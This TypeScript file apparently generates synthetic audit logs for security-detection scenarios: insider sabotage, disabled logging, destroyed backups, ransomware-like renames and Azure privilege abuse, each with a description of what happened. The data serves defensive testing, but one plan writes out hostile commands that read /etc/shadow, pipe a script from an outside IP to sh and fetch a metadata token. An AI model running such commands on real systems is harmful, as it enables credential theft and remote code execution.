import type { Plan } from "../scenario.ts";
import { HOUR, MINUTE, SECOND } from "../calendar.ts";
import { audit, behavior, signin, thing, user } from "../entra.ts";
import { netOf } from "../everyday-people.ts";
import { azure, newResource, resource, scope } from "../infra.ts";
import { command, file, siteOp } from "../m365.ts";
import { azureNet, campusNet, hostileNet, residentialNet, torNet } from "../places.ts";
import { act, host } from "../windows.ts";
import { onWindows, times } from "./tools.ts";

const sabotage: Plan[] = [
  { kind: "sites-deleted-in-anger", area: "sabotage", difficulty: "obvious", types: ["sabotage", "insider_threat"],
      run: (a) => {
    const { w, rng } = a;
    const admin = a.admin("m365");
    const net = admin.home;
    const t = a.at(rng.float(23, 25));
    for (const [i, key] of rng.sample(["sci-project1", "med-project3", "eng-project2", "hum-project4", "eco-project1",
        "law-project2"], 4).entries()) {
      const site = w.sites.get(key)!;
      a.core(() => siteOp(w, t + i * 70 * SECOND, admin, "SiteDeleted", site, { net }));
      for (const [k, name] of site.files.slice(0, 12).entries()) file(w, t + i * 70 * SECOND - 20_000 + k * 300, admin,
        "FileDeletedFirstStageRecycleBin", site, name, { net });
    }
    return `${admin.display} deletes four project sites and their recycle bins in one night from home.`;
  } },
  { kind: "audit-log-switched-off", area: "sabotage", difficulty: "obvious", types: ["sabotage", "account_compromise"],
      run: (a) => {
    const { w, rng } = a;
    const admin = a.admin("m365");
    const net = a.net(hostileNet(rng));
    const t = a.at(rng.float(2, 5));
    signin(w, t - 3 * MINUTE, admin, { net, app: "exops", device: null, mfa: "claim" });
    a.core(() => {
      command(w, t, admin, "Set-AdminAuditLogConfig", "Default", { UnifiedAuditLogIngestionEnabled: "False" }, net);
      command(w, t + MINUTE, admin, "Set-MailboxAuditBypassAssociation", admin.sam,
        { Identity: admin.sam, AuditBypassEnabled: "True" }, net);
    });
    return `The unified audit log is switched off at night from a rented server with the account ${admin.upn}.`;
  } },
  { kind: "detection-rules-removed", area: "sabotage", difficulty: "context", types: ["sabotage", "insider_threat"],
      run: (a) => {
    const { w, rng } = a;
    const admin = a.admin("cloud");
    const net = admin.home;
    const law = resource(w, "platform", "law-security");
    const t = a.at(rng.float(19, 23));
    a.core(() => {
      times(5, (i) => azure(w, t + i * 30 * SECOND, admin, net, "Microsoft.SecurityInsights/alertRules/delete",
        { ...law, id: `${law.id}/providers/Microsoft.SecurityInsights/alertRules/${rng.uuid()}` }));
      azure(w, t + 6 * MINUTE, admin, net, "Microsoft.Insights/diagnosticSettings/delete",
        { ...law, id: `/subscriptions/${law.sub.id}/providers/Microsoft.Insights/diagnosticSettings/activity-to-law` });
    });
    return `A cloud administrator, not the security team, deletes five detection rules and the export of the activity `
      + `log in the evening.`;
  } },
  { kind: "backups-destroyed", area: "sabotage", difficulty: "obvious", types: ["sabotage", "account_compromise"],
      when: "any", run: (a) => {
    const { w, rng } = a;
    const admin = a.admin("cloud");
    const net = a.net(torNet(rng));
    const vault = resource(w, "platform", "rsv-campus");
    const t = a.at(rng.float(0, 4));
    signin(w, t - 7 * MINUTE, admin, { net, app: "azure", device: null, mfa: "claim", risk: "high",
      riskTypes: ["anonymizedIPAddress"] });
    a.core(() => {
      azure(w, t, admin, net, "Microsoft.RecoveryServices/vaults/backupconfig/write", vault,
        { body: { properties: { softDeleteFeatureState: "Disabled", enhancedSecurityState: "Disabled" } } });
      times(7, (i) => azure(w, t + (3 + i) * MINUTE, admin, net,
        "Microsoft.RecoveryServices/vaults/backupFabrics/protectionContainers/protectedItems/delete",
        { ...vault, id: `${vault.id}/backupFabrics/Azure/protectionContainers/iaasvm;${i}/protectedItems/vm;${i}` }));
    });
    return `Through Tor the soft deletion of the backup vault is switched off and seven protected machines lose their `
      + `backups.`;
  } },
  { kind: "drive-encrypted", area: "sabotage", difficulty: "obvious", types: ["sabotage", "account_compromise"],
      times: 2, run: (a) => {
    const { w, rng } = a;
    const p = a.staff(onWindows, "campus");
    const net = netOf(rng, p, a.day);
    const site = p.sites[0]!;
    const t = a.at(rng.float(10, 16));
    const ending = rng.pick([".lockd", ".aby55", ".crypt9"]);
    for (const [i, name] of site.files.slice(0, 45).entries()) {
      const at = t + i * 1300;
      const write = (): void => {
        file(w, at, p, "FileModified", site, name, { net });
        file(w, at + 500, p, "FileRenamed", site, name,
          { net, extra: { DestinationFileName: `${name}${ending}`, DestinationFileExtension: ending.slice(1) } });
      };
      if (i < 20) a.core(write);
      else write();
    }
    a.core(() => file(w, t + 70_000, p, "FileUploaded", site, "HOW_TO_RESTORE_FILES.txt", { net }));
    return `A program on the computer of ${p.display} overwrites and renames 45 files of a team site to ${ending} and `
      + `leaves a demand.`;
  } },
  { kind: "accounts-disabled-without-order", area: "sabotage", difficulty: "context",
      types: ["sabotage", "insider_threat"], run: (a) => {
    const { w, rng } = a;
    const admin = a.admin("windows");
    const net = admin.home;
    const t = a.at(rng.float(6, 7.4));
    for (const [i, p] of a.many(19, (x) => x.tags.has("lead") || x.tags.has("it")).entries()) {
      a.core(() => audit(w, t + i * 8 * SECOND, { person: admin, net }, "Disable account", "UserManagement",
        [user(p, ["AccountEnabled", "true", "false"])]));
      if (i % 2) act(w, t + i * 8 * SECOND + 700, host(w, "dc01"), 4725, admin, p);
    }
    return `Before office hours ${admin.display} disables nineteen directors and colleagues of IT who have not left.`;
  } },
  { kind: "protection-of-documents-removed", area: "sabotage", difficulty: "context",
      types: ["sabotage", "policy_violation"], run: (a) => {
    const { w, rng } = a;
    const admin = a.admin(rng.pick(["security", "m365"]));
    const net = a.net(residentialNet(rng));
    const t = a.at(rng.float(20, 22));
    a.core(() => {
      command(w, t, admin, "Set-DlpCompliancePolicy", "Patient and student data",
        { Identity: "Patient and student data", Mode: "Disable" }, net);
      command(w, t + 2 * MINUTE, admin, "Remove-RetentionCompliancePolicy", "Finance 7 years",
        { Identity: "Finance 7 years", Confirm: "False" }, net);
    });
    return `The policy against the loss of patient data and the retention of finance are removed in the evening.`;
  } },
  { kind: "safe-attachments-off", area: "sabotage", difficulty: "context", types: ["sabotage"], run: (a) => {
    const { w, rng } = a;
    const admin = a.admin("m365");
    const t = a.at(rng.float(11, 16));
    a.core(() => {
      command(w, t, admin, "Disable-SafeAttachmentRule", "Built-in", { Identity: "Staff attachments" },
        campusNet(rng, 24));
      command(w, t + 40_000, admin, "Set-SafeLinksPolicy", "Staff links",
        { Identity: "Staff links", EnableSafeLinksForEmail: "False", TrackClicks: "False" }, campusNet(rng, 24));
    });
    return `${admin.display} switches off the checks of attachments and links for the staff in office hours without a `
      + `change.`;
  } },
  { kind: "measurements-of-a-rival-deleted", area: "sabotage", difficulty: "context",
      types: ["sabotage", "insider_threat"], run: (a) => {
    const { w, rng } = a;
    const p = a.staff((x) => (x.unitCode === "eng" || x.unitCode === "med") && x.tags.has("researcher")
      && x.laptop.os === "Windows 11");
    const on = host(w, p.unitCode === "med" ? "fs-med01" : "fs-eng01");
    a.about(on.name);
    const t = a.at(rng.float(21, 23.5));
    times(30, (i) => {
      const write = (): string => act(w, t + i * 2400, on, 4663, p, undefined,
        { ObjectName: `D:\\instruments\\group-b\\series${rng.int(1, 9)}\\raw${i}.dat`, ObjectType: "File",
        AccessMask: "0x10000",
        ProcessName: "", EventData: '<Data Name="AccessList">%%1537</Data>', IpAddress: p.laptop.ip });
      if (i < 12) a.core(write);
      else write();
    });
    return `${p.display} deletes the measurements of another group on ${on.name} late in the evening.`;
  } },
  { kind: "one-backup-excluded", area: "sabotage", difficulty: "hard", types: ["sabotage", "insider_threat"],
      run: (a) => {
    const { w, rng } = a;
    const admin = a.admin("cloud");
    const vault = resource(w, "platform", "rsv-campus");
    a.core(() => azure(w, a.at(rng.float(10, 15)), admin, campusNet(rng, 24),
      "Microsoft.RecoveryServices/vaults/backupPolicies/write",
      { ...vault, id: `${vault.id}/backupPolicies/DailyServers` },
      { body: { properties: { retentionPolicy: { dailySchedule: { retentionDuration: { count: 1,
        durationType: "Days" } } } } } }));
    return `The retention of the daily backup is cut to one day in office hours, on a day that is no change window.`;
  } },
  { kind: "devices-deleted", area: "sabotage", difficulty: "context", types: ["sabotage", "insider_threat"],
      run: (a) => {
    const { w, rng } = a;
    const admin = a.admin("endpoint");
    const net = admin.home;
    const t = a.at(rng.float(22, 24));
    for (const [i, p] of a.many(24).entries()) {
      a.core(() => audit(w, t + i * 5 * SECOND, { person: admin, net }, "Delete device", "Device",
        [thing("Device", p.laptop.id, p.laptop.name)]));
    }
    return `${admin.display} deletes the devices of 24 people from the directory at night, so that their keys and `
      + `sign-ins are lost.`;
  } },
];

const azureAttacks: Plan[] = [
  { kind: "gpu-machines-for-mining", area: "azure", difficulty: "obvious", types: ["account_compromise"], when: "any",
      times: 2, run: (a) => {
    const { w, rng } = a;
    const sub = rng.pick(["economics", "library", "climate"]);
    const p = w.subs.get(sub)!.owner;
    a.about(p.upn, w.subs.get(sub)!.name);
    const net = a.net(hostileNet(rng));
    const t = a.at(rng.float(0, 5));
    signin(w, t - 5 * MINUTE, p, { net, app: "azcli", device: null, mfa: "claim" });
    a.core(() => times(14, (i) => {
      const vm = newResource(w, sub, "Microsoft.Compute/virtualMachines", `x${rng.hex(6)}`, `rg-${rng.hex(4)}`);
      azure(w, t + i * 45 * SECOND, p, net, "Microsoft.Compute/virtualMachines/write", vm,
        { status: i % 5 === 4 ? "Failure" : "Success",
        body: { location: ["brazilsouth", "southafricanorth", "koreacentral"][i % 3],
          properties: { hardwareProfile: { vmSize: "Standard_ND96asr_v4" } } } });
    }));
    return `With the account of ${p.display} fourteen of the largest GPU machines are started in three far regions at `
      + `night.`;
  } },
  { kind: "storage-opened-to-the-world", area: "azure", difficulty: "context",
      types: ["data_exfiltration", "insider_threat"], run: (a) => {
    const { w, rng } = a;
    const store = resource(w, "genomics", "stgenomereads");
    const p = rng.pick(store.sub.members);
    a.about(p.upn, store.name);
    const net = netOf(rng, p, a.day);
    const t = a.at(rng.float(20, 23));
    a.core(() => {
      azure(w, t, p, net, "Microsoft.Storage/storageAccounts/write", store,
        { body: { properties: { allowBlobPublicAccess: true, networkAcls: { defaultAction: "Allow" } } } });
      azure(w, t + 3 * MINUTE, p, net, "Microsoft.Storage/storageAccounts/blobServices/containers/write",
        { ...store, id: `${store.id}/blobServices/default/containers/reads` },
        { body: { properties: { publicAccess: "Container" } } });
    });
    azure(w, t + 5 * MINUTE, p, net, "Microsoft.Storage/storageAccounts/listKeys/action", store, { quiet: true });
    return `${p.display} opens the container with genome reads to everybody in the evening and fetches the keys.`;
  } },
  { kind: "commands-on-a-foreign-machine", area: "azure", difficulty: "obvious",
      types: ["account_compromise", "privilege_escalation"], run: (a) => {
    const { w, rng } = a;
    const vm = resource(w, "platform", "vm-relay-01");
    const admin = a.admin("cloud");
    a.about(vm.name);
    const net = a.net(azureNet(rng));
    const t = a.at(rng.float(19, 23));
    a.core(() => times(3, (i) => azure(w, t + i * 6 * MINUTE, admin, net,
      "Microsoft.Compute/virtualMachines/runCommand/action", vm,
      { body: { commandId: "RunShellScript", script: [["id; cat /etc/shadow", "curl -s http://45.77.3.9/a.sh | sh",
      "curl -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token"][i]] } })));
    azure(w, t + 25 * MINUTE, admin, net, "Microsoft.Compute/virtualMachines/extensions/write",
      { ...vm, id: `${vm.id}/extensions/VMAccessForLinux` });
    return `Commands are run on the mail relay with the account ${admin.upn} from another cloud address: passwords, a `
      + `downloaded script and a token.`;
  } },
  { kind: "elevation-over-all-subscriptions", area: "azure", difficulty: "obvious",
      types: ["privilege_escalation", "account_compromise"], run: (a) => {
    const { w, rng } = a;
    const admin = a.admin("identity");
    const net = a.net(hostileNet(rng));
    const t = a.at(rng.float(21, 24));
    const all = { id: "/providers/Microsoft.Authorization/elevateAccess", group: "", sub: w.subs.get("platform")! };
    a.core(() => {
      azure(w, t, admin, net, "Microsoft.Authorization/elevateAccess/action", all);
      audit(w, t + 800, { person: admin, net },
        "User has elevated their access to User Access Administrator for their Azure Resources",
        "AzureRBACRoleManagementElevateAccess", [user(admin)], { service: "Azure RBAC (Elevated Access)" });
    });
    for (const [i, key] of ["genomics", "climate", "ml", "economics"].entries()) {
      azure(w, t + (4 + i) * MINUTE, admin, net, "Microsoft.Authorization/roleAssignments/write", scope(w, key),
        { body: { Properties: { PrincipalId: admin.id, RoleDefinitionId: "8e3af657-a8ff-443c-a75c-2fe8c4bcb635" } } });
    }
    return `The account ${admin.upn} elevates itself over all subscriptions from abroad and becomes owner of those of `
      + `the research groups.`;
  } },
  { kind: "disk-of-patients-exported", area: "azure", difficulty: "context",
      types: ["data_exfiltration", "insider_threat"], run: (a) => {
    const { w, rng } = a;
    const disk = resource(w, "genomics", "vm-genome-db_data");
    const p = disk.sub.owner;
    a.about(p.upn, disk.name);
    const net = a.net(residentialNet(rng));
    const t = a.at(rng.float(18.5, 22));
    const snapshot = newResource(w, "genomics", "Microsoft.Compute/snapshots", "tmp-1");
    azure(w, t, p, net, "Microsoft.Compute/snapshots/write", snapshot);
    a.core(() => azure(w, t + 4 * MINUTE, p, net, "Microsoft.Compute/snapshots/beginGetAccess/action", snapshot,
      { body: { access: "Read", durationInSeconds: 86_400 } }));
    azure(w, t + 9 * HOUR, p, net, "Microsoft.Compute/snapshots/delete", snapshot);
    return `With the account of ${p.display} a copy of the disk of the genome database is made downloadable for a `
      + `day, and deleted in the morning.`;
  } },
  { kind: "vault-opened-for-oneself", area: "azure", difficulty: "context",
      types: ["privilege_escalation", "insider_threat"], run: (a) => {
    const { w, rng } = a;
    const vault = rng.chance(0.5) ? resource(w, "ml", "kv-ml") : resource(w, "climate", "kv-climate");
    const p = rng.pick(vault.sub.members);
    a.about(p.upn, vault.name);
    const net = netOf(rng, p, a.day);
    const t = a.at(rng.float(18, 21));
    a.core(() => azure(w, t, p, net, "Microsoft.KeyVault/vaults/accessPolicies/write",
      { ...vault, id: `${vault.id}/accessPolicies/add` },
      { body: { properties: { accessPolicies: [
      { objectId: p.id, permissions: { secrets: ["all"], keys: ["all"] } }] } } }));
    a.core(() => azure(w, t + 4 * MINUTE, p, net, "Microsoft.KeyVault/vaults/write", vault,
      { body: { properties: { networkAcls: { defaultAction: "Allow" }, enablePurgeProtection: false } } }));
    return `${p.display} gives the own account all rights on the vault and opens it to every network in the evening.`;
  } },
  { kind: "remote-desktop-open-to-everybody", area: "azure", difficulty: "context",
      types: ["policy_violation", "account_compromise"], run: (a) => {
    const { w, rng } = a;
    const sub = rng.pick(["economics", "ml", "climate"]);
    const nsg = w.subs.get(sub)!.resources.find((r) => r.type.endsWith("networkSecurityGroups"))!;
    const p = rng.pick(nsg.sub.members);
    a.about(p.upn, nsg.name);
    const net = a.net(hostileNet(rng));
    const t = a.at(rng.float(2, 6));
    signin(w, t - 4 * MINUTE, p, { net, app: "azure", device: null, mfa: "claim" });
    a.core(() => azure(w, t, p, net, "Microsoft.Network/networkSecurityGroups/securityRules/write",
      { ...nsg, id: `${nsg.id}/securityRules/temp` },
      { body: { properties: { access: "Allow", direction: "Inbound", destinationPortRange: "3389,22,5985",
        sourceAddressPrefix: "*", priority: 100 } } }));
    return `Somebody with the account of ${p.display} opens remote desktop and SSH of a subscription to the whole `
      + `Internet from a foreign line.`;
  } },
  { kind: "runbook-with-webhook", area: "azure", difficulty: "hard",
      types: ["account_compromise", "privilege_escalation"], run: (a) => {
    const { w, rng } = a;
    const account = resource(w, "platform", "aa-it-automation");
    const admin = a.admin("cloud");
    a.about(account.name);
    const t = a.at(rng.float(12, 16));
    const net = campusNet(rng, 24);
    a.core(() => {
      azure(w, t, admin, net, "Microsoft.Automation/automationAccounts/runbooks/write",
        { ...account, id: `${account.id}/runbooks/Update-Inventory2` });
      azure(w, t + 3 * MINUTE, admin, net, "Microsoft.Automation/automationAccounts/webhooks/write",
        { ...account, id: `${account.id}/webhooks/wh-${rng.hex(4)}` },
        { body: { properties: { expiryTime: "2036-01-01T00:00:00Z", runbook: { name: "Update-Inventory2" } } } });
    });
    return `A runbook with a webhook that is valid for ten years appears in the automation account of IT: a door that `
      + `needs no account.`;
  } },
  { kind: "subscription-handed-to-foreign-provider", area: "azure", difficulty: "context",
      types: ["privilege_escalation", "account_compromise"], run: (a) => {
    const { w, rng } = a;
    const p = w.subs.get("library")!.owner;
    a.about(p.upn);
    const net = a.net(residentialNet(rng));
    const on = scope(w, "library");
    const t = a.at(rng.float(20, 23));
    a.core(() => {
      azure(w, t, p, net, "Microsoft.ManagedServices/registrationDefinitions/write",
        { ...on, id: `${on.id}/providers/Microsoft.ManagedServices/registrationDefinitions/${rng.uuid()}` },
        { body: { properties: { managedByTenantId: rng.uuid(),
          authorizations: [{ roleDefinitionId: "b24988ac-6180-42a0-ab88-20f7382dd24c" }] } } });
      azure(w, t + MINUTE, p, net, "Microsoft.ManagedServices/registrationAssignments/write",
        { ...on, id: `${on.id}/providers/Microsoft.ManagedServices/registrationAssignments/${rng.uuid()}` });
    });
    return `The subscription of the library is delegated to a foreign tenant as contributor.`;
  } },
  { kind: "locks-and-groups-deleted", area: "azure", difficulty: "obvious",
      types: ["sabotage", "insider_threat", "account_compromise"], when: "any", run: (a) => {
    const { w, rng } = a;
    const sub = rng.pick(["ml", "climate", "economics"]);
    const p = rng.pick(w.subs.get(sub)!.members);
    a.about(p.upn, w.subs.get(sub)!.name);
    const net = a.net(rng.chance(0.5) ? p.home : hostileNet(rng));
    const t = a.at(rng.float(22, 26));
    const group = scope(w, sub, `rg-${sub}-prod`);
    azure(w, t, p, net, "Microsoft.Authorization/locks/delete",
      { ...group, id: `${group.id}/providers/Microsoft.Authorization/locks/do-not-delete` });
    a.core(() => azure(w, t + 2 * MINUTE, p, net, "Microsoft.Resources/subscriptions/resourceGroups/delete", group));
    for (const [i, r] of group.sub.resources.entries()) a.core(() => azure(w, t + (3 + i) * MINUTE, p, net,
      `${r.type}/delete`, r));
    return `The lock and then the whole production group of ${w.subs.get(sub)!.name} are deleted at night.`;
  } },
  { kind: "outsider-becomes-owner", area: "azure", difficulty: "context",
      types: ["privilege_escalation", "insider_threat"], run: (a) => {
    const { w, rng } = a;
    const guest = a.guest();
    const sub = w.subs.get("ml")!;
    a.about(sub.owner.upn);
    const net = a.net(residentialNet(rng));
    a.core(() => azure(w, a.at(rng.float(19, 23)), sub.owner, net, "Microsoft.Authorization/roleAssignments/write",
      scope(w, "ml"), { body: { Properties: { PrincipalId: guest.id, PrincipalType: "User",
      RoleDefinitionId: "8e3af657-a8ff-443c-a75c-2fe8c4bcb635" } } }));
    return `A guest, ${guest.mail}, becomes owner of the subscription of the machine learning laboratory from an `
      + `unknown line in the evening.`;
  } },
  { kind: "custom-role-with-everything", area: "azure", difficulty: "hard", types: ["privilege_escalation"],
      run: (a) => {
    const { w, rng } = a;
    const app = w.apps.get("terraform")!;
    a.about(app.name);
    const on = scope(w, "platform");
    a.core(() => azure(w, a.at(rng.float(9, 16)), app, "203.0.113.41", "Microsoft.Authorization/roleDefinitions/write",
      { ...on, id: `${on.id}/providers/Microsoft.Authorization/roleDefinitions/${rng.uuid()}` },
      { body: { properties: { roleName: "Reader (inventory)",
        permissions: [{ actions: ["*/read", "Microsoft.Authorization/*",
        "Microsoft.Compute/virtualMachines/runCommand/action"] }] } } }));
    behavior(w, a.at(16.5), app.owner!, "ResourceAccess", "roleDefinitions/write", campusNet(rng, 24), 3,
      { ActionUncommonlyPerformedInTenant: "True" });
    return `The pipeline of IT writes a role called reader that may give roles and run commands, on a day without a `
      + `run.`;
  } },
];

export const sabotageAndAzure: Plan[] = [...sabotage, ...azureAttacks];
